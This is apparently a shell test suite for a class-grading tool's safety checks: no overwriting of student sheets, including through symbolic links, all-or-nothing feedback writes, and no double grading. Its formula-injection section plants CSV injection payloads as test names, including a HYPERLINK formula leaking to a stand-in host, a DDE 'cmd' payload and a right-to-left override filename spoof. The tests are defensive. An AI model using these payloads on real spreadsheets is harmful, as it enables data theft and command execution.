# cases-check-safety.sh - `sgviz check` on a class never damages the class:
# no output lands on a sheet or inside a class folder (through links too),
# the feedback folder is written whole or not at all, no name reaches a
# spreadsheet as a formula or a terminal as a right-to-left override, and
# no sheet is graded twice through a link.  Sourced by run.sh.

# sums FOLDER: a checksum line for every file under FOLDER, to compare
# before and after.
sums() { (cd "$1" && find . -type f -exec cksum {} + | sort); }

# A small class: two students' sheets of S = {1,3,4} (the values from the
# definition, 0 1 0 1 2 3 2 0 1).
safe="$tmp/safety"
rm -rf "$safe"
mkdir -p "$safe/class"
echo "0 1 0 1 2 3 2 0 1" > "$safe/class/a.txt"
echo "0 1 0 1 2 3 2 0 0" > "$safe/class/b.txt"
sums "$safe/class" > "$tmp/class.before"

# refused WHAT FRAGMENT ARGS...: sgviz check ARGS in $safe exits 2 with one
# "sgviz:" line holding FRAGMENT, prints nothing else, and leaves the class
# and the folder around it as they were.
refused() {
    r_what=$1
    r_fragment=$2
    shift 2
    (cd "$safe" && find . | sort) > "$tmp/tree.before"
    run_in "$safe" "$@"
    (cd "$safe" && find . | sort) > "$tmp/tree.after"
    sums "$safe/class" > "$tmp/class.after"
    if [ "$status" = 2 ] && [ ! -s "$tmp/out" ] &&
       [ "$(wc -l < "$tmp/err")" -eq 1 ] && grep -q '^sgviz: ' "$tmp/err" &&
       grep -qF -- "$r_fragment" "$tmp/err" &&
       cmp -s "$tmp/class.before" "$tmp/class.after" &&
       cmp -s "$tmp/tree.before" "$tmp/tree.after"; then
        pass
    else
        fail "$r_what: exit $status, $(cat "$tmp/err"); $(diff "$tmp/tree.before" "$tmp/tree.after")"
    fi
}

# check --feedback DIR with DIR the class folder used to replace a.txt by
# its report and exit 0.
refused "feedback into the class folder" "--feedback class: that is the class folder, which is read" \
    check -s 1,3,4 class --feedback class
refused "feedback into a folder inside the class" "--feedback class/reports: lies inside the class folder" \
    check -s 1,3,4 class --feedback class/reports
# Through a link in the feedback folder to another student's sheet.
mkdir "$safe/fb"
ln -s ../class/b.txt "$safe/fb/a.txt"
refused "feedback through a link to a sheet" "--feedback fb/a.txt: a symbolic link to " \
    check -s 1,3,4 class --feedback fb
# Through a link that is the feedback folder itself.
ln -s class "$safe/fb-link"
refused "feedback through a linked folder" "--feedback fb-link: a symbolic link to " \
    check -s 1,3,4 class --feedback fb-link
# Sheets given one by one: a report named after a sheet would replace it.
refused "feedback over a sheet given as an operand" "--feedback class/a.txt: that is an input file" \
    check -s 1,3,4 class/a.txt class/b.txt --feedback class
# The gradebook and the chart follow the same rule.
refused "gradebook into the class folder" "-o class/grades.csv: lies inside the class folder" \
    check -s 1,3,4 class -o class/grades.csv -f csv
refused "chart into the class folder" "--chart class/chart.svg: lies inside the class folder" \
    check -s 1,3,4 class --chart class/chart.svg
ln -s class/a.txt "$safe/book.txt"
refused "gradebook through a link to a sheet" "-o book.txt: a symbolic link to " \
    check -s 1,3,4 class -o book.txt
rm -f "$safe/book.txt" "$safe/fb/a.txt" "$safe/fb-link"
rmdir "$safe/fb"

# ---- the feedback folder, whole or not at all ---------------------------
# 300 students; one sheet's report is far longer than the others (x =
# 0..300, all wrong), and a file size limit stands for a full disk: that
# report cannot be written, so no report may appear, and the message names
# the file and the reason; a write that fails ends with exit 3, an I/O
# failure, not 2, bad input.
mkdir -p "$safe/big"
i=1
while [ $i -le 300 ]; do
    echo "0 1 0 1 2 3 2 0 1" > "$safe/big/s$i.txt"
    i=$((i + 1))
done
awk 'BEGIN { for (x = 0; x <= 300; x++) print x, 5 }' > "$safe/big/s150.txt"
full_disk() { # ARGS: sgviz check with a 4 KB file size limit
    (cd "$safe" && ulimit -f 8 && trap '' XFSZ && "$SGVIZ" "$@") > /dev/null 2> "$tmp/err"
    status=$?
}
full_disk check -s 1,3,4 -n 300 big --feedback fb-new
if [ "$status" = 3 ] && [ ! -e "$safe/fb-new" ] &&
   [ "$(wc -l < "$tmp/err")" -eq 1 ] &&
   grep -q '^sgviz: --feedback fb-new: cannot write s150.txt: File too large; nothing was written there$' "$tmp/err" &&
   [ -z "$(ls -A "$safe" | grep sgviz)" ]; then
    pass
else
    fail "feedback on a full disk: exit $status, $(cat "$tmp/err"), $(ls -A "$safe")"
fi
# Into a folder that holds last week's reports: they stay as they were.
mkdir "$safe/fb-old"
echo "last week" > "$safe/fb-old/s1.txt"
full_disk check -s 1,3,4 -n 300 big --feedback fb-old
if [ "$status" = 3 ] && [ "$(ls -A "$safe/fb-old")" = s1.txt ] &&
   [ "$(cat "$safe/fb-old/s1.txt")" = "last week" ] &&
   grep -q '^sgviz: --feedback fb-old: cannot write s150.txt: File too large; nothing was written there$' "$tmp/err"; then
    pass
else
    fail "feedback on a full disk, old folder: exit $status, $(cat "$tmp/err"), $(ls -A "$safe/fb-old")"
fi
# Without the limit, every report appears, each replacing last week's.
if expect 1 "feedback of 300 students" check -s 1,3,4 -n 300 safety/big --feedback safety/fb-old; then
    if [ "$(ls "$safe/fb-old" | wc -l)" -eq 300 ] &&
       ! grep -q "last week" "$safe/fb-old/s1.txt" &&
       [ -z "$(ls -A "$safe/fb-old" | grep '^\.')" ]; then
        pass
    else
        fail "feedback of 300 students: $(ls -A "$safe/fb-old" | wc -l) files"
    fi
fi
rm -rf "$safe/big" "$safe/fb-old"

# ---- names that are formulas, names that read backwards -----------------
# A spreadsheet runs a cell starting with =, +, - or @; OWASP's rule: such
# text starts with a quote mark, inside quotes.  The names come from a
# sheet's Name: line and from a Moodle folder's name.
inj="$safe/inject"
mkdir -p "$inj" "$inj/=cmd|' -C calc'!A0_100777_assignsubmission_file_"
printf 'Name: =HYPERLINK("http://evil.example/?leak")\n0 1 0 1\n' > "$inj/h.txt"
printf 'Name: @SUM(1+1)*cmd|\n0 1 0 1\n' > "$inj/s.txt"
printf 'Name: +1+2\n0 1 0 1\n' > "$inj/p.txt"
printf 'Name: -2+3\n0 1 0 1\n' > "$inj/m.txt"
rlo=$(printf '\342\200\256')
printf 'Name: Ann%stxt.exe\n0 1 0 1\n' "$rlo" > "$inj/r.txt"
echo "0 1 0 1" > "$inj/=cmd|' -C calc'!A0_100777_assignsubmission_file_/hw.txt"
if expect 0 "formula injection: csv gradebook" check -s 1,3,4 safety/inject -f csv; then
    # Every cell that starts with one of the four (after an opening quote)
    # must be a number, or start with the quote mark.
    bad=$(awk -F, 'NR > 1 { for (i = 1; i <= NF; i++) {
              c = $i; sub(/^"/, "", c)
              if (c ~ /^[-=+@\t\r]/ && c !~ /^-?[0-9]+(\.[0-9]+)?$/) print c } }' "$tmp/out")
    if [ -z "$bad" ] &&
       grep -qF ",\"'=HYPERLINK(\"\"http://evil.example/?leak\"\")\"," "$tmp/out" &&
       grep -qF ",\"'@SUM(1+1)*cmd|\"," "$tmp/out" &&
       grep -qF ",\"'+1+2\"," "$tmp/out" &&
       grep -qF ",\"'-2+3\"," "$tmp/out" &&
       grep -qF ",\"'=cmd|' -C calc'!A0\",100777," "$tmp/out"; then
        pass
    else
        fail "formula injection: $bad: $(cat "$tmp/out")"
    fi
fi
# The override is shown as \u202E (in JSON, that text with its backslash
# escaped, so that no reader turns it back into the character).
for f in text csv json; do
    shown='Ann\u202Etxt.exe'
    [ $f = json ] && shown='Ann\\u202Etxt.exe'
    if expect 0 "right-to-left override: $f gradebook" check -s 1,3,4 safety/inject -f $f; then
        if ! grep -q "$rlo" "$tmp/out" && grep -qF "$shown" "$tmp/out"; then pass; else
            fail "right-to-left override reaches the $f gradebook: $(grep Ann "$tmp/out")"
        fi
    fi
done
rm -rf "$inj"

# ---- links in a class folder --------------------------------------------
lk="$safe/links"
mkdir -p "$lk/Ann Lee_100301_assignsubmission_file_" "$lk/Bo Chen_100302_assignsubmission_file_" \
         "$lk/Cy Diaz_100303_assignsubmission_file_"
echo "0 1 0 1 2 3 2 0 1" > "$lk/Ann Lee_100301_assignsubmission_file_/hw.txt"
# Bo's folder holds only a link to Ann's sheet: without the check it was
# graded as Bo's, 9/9.
ln -s "../Ann Lee_100301_assignsubmission_file_/hw.txt" "$lk/Bo Chen_100302_assignsubmission_file_/hw.txt"
# Cy's link leads nowhere, and two more links loop.
ln -s no-such-sheet.txt "$lk/Cy Diaz_100303_assignsubmission_file_/hw.txt"
ln -s loop-b.txt "$lk/loop-a.txt"
ln -s loop-a.txt "$lk/loop-b.txt"
# A flat sheet and a link to it beside it.
echo "0 1 0 1 2 3 2 0 0" > "$lk/dee_100304_500001_hw.txt"
ln -s dee_100304_500001_hw.txt "$lk/eve_100305_500002_hw.txt"
# A sheet 200 folders down.
deep="$lk/Fay Gold_100306_assignsubmission_file_"
i=0
while [ $i -lt 200 ]; do deep="$deep/d"; i=$((i + 1)); done
mkdir -p "$deep"
echo "0 1 0 1 2 3 2 0 1" > "$deep/hw.txt"
if expect 2 "links in a class folder" check -s 1,3,4 -n 8 safety/links -f csv; then
    row() { grep -F "$1" "$tmp/out"; }
    if row "Ann Lee" | grep -q ',yes,9,9,' &&
       row "Bo Chen" | grep -qF ',no,' &&
       row "Bo Chen" | grep -qF "a symbolic link to safety/links/Ann Lee_100301_assignsubmission_file_/hw.txt (Ann Lee's sheet), which is graded already: not graded twice" &&
       row "Cy Diaz" | grep -qF 'a symbolic link to no-such-sheet.txt, which does not exist: skipped' &&
       row "loop-a.txt" | grep -qF 'a symbolic link that loops' &&
       row "loop-b.txt" | grep -qF 'a symbolic link that loops' &&
       row "eve_100305" | grep -qF "a symbolic link to safety/links/dee_100304_500001_hw.txt (dee's sheet), which is graded already: not graded twice" &&
       row "dee_100304" | grep -q ',yes,9,8,' &&
       row "Fay Gold" | grep -qF 'the folder'"'"'s files lie more than 3 folders down, and sgviz looks only 3 folders deep: move the sheet up' &&
       ! grep -q 'place outside the folder\|a folder with no file in it' "$tmp/out"; then
        pass
    else
        fail "links in a class folder: $(cat "$tmp/out")"
    fi
fi
if expect 2 "links in a class folder, zh" check -s 1,3,4 -n 8 safety/links --lang zh; then
    if grep -qF '那份已经评过：不重复评分' "$tmp/out" && grep -qF '循环的符号链接' "$tmp/out" &&
       grep -qF '而 sgviz 只查看 3 层' "$tmp/out"; then pass; else
        fail "links in a class folder, zh: $(cat "$tmp/out")"
    fi
fi
rm -rf "$lk"
